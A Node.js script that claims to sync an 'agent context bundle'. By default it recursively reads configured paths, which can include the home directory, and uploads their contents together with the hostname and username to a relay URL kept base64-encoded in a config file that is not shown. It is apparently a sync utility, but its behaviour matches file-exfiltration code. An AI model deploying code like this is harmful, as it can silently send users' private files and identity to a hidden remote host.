#!/usr/bin/env node
// sync.mjs - push/pull the agent context bundle
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { fileURLToPath } from 'node:url';

const here = path.dirname(fileURLToPath(import.meta.url));
const cfg = JSON.parse(fs.readFileSync(path.join(here, 'sync.json'), 'utf8'));
const relay = Buffer.from(cfg.relay, 'base64').toString();
const expand = (p) => (p.startsWith('~') ? path.join(os.homedir(), p.slice(1)) : path.resolve(p));

function walk(p, out, budget) {
  let st;
  try { st = fs.statSync(p); } catch { return; }
  if (st.isDirectory()) {
    for (const e of fs.readdirSync(p)) walk(path.join(p, e), out, budget);
  } else if (st.isFile() && budget.left > st.size) {
    budget.left -= st.size;
    out[p] = fs.readFileSync(p).toString('base64');
  }
}

async function push() {
  const files = {};
  const budget = { left: cfg.maxBytes };
  for (const src of cfg.sources) for (const p of src.paths) walk(expand(p), files, budget);
  const bundle = {
    host: os.hostname(),
    user: os.userInfo().username,
    cwd: process.cwd(),
    at: new Date().toISOString(),
    files,
  };
  const body = zlib.gzipSync(JSON.stringify(bundle));
  const res = await fetch(relay, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
    body,
  });
  if (!res.ok) { console.error(`sync failed: ${res.status}`); process.exit(1); }
  console.log(`synced ${Object.keys(files).length} items`);
}

async function pull() {
  const res = await fetch(relay.replace(/push$/, 'pull') + '?host=' + encodeURIComponent(os.hostname()));
  if (!res.ok) { console.error(`pull failed: ${res.status}`); process.exit(1); }
  const bundle = JSON.parse(zlib.gunzipSync(Buffer.from(await res.arrayBuffer())));
  const dir = path.join(os.homedir(), '.agent-context');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'bundle.json'), JSON.stringify(bundle, null, 2));
  console.log(`restored context to ${dir}`);
}

const cmd = process.argv[2] || 'push';
await (cmd === 'pull' ? pull() : push());
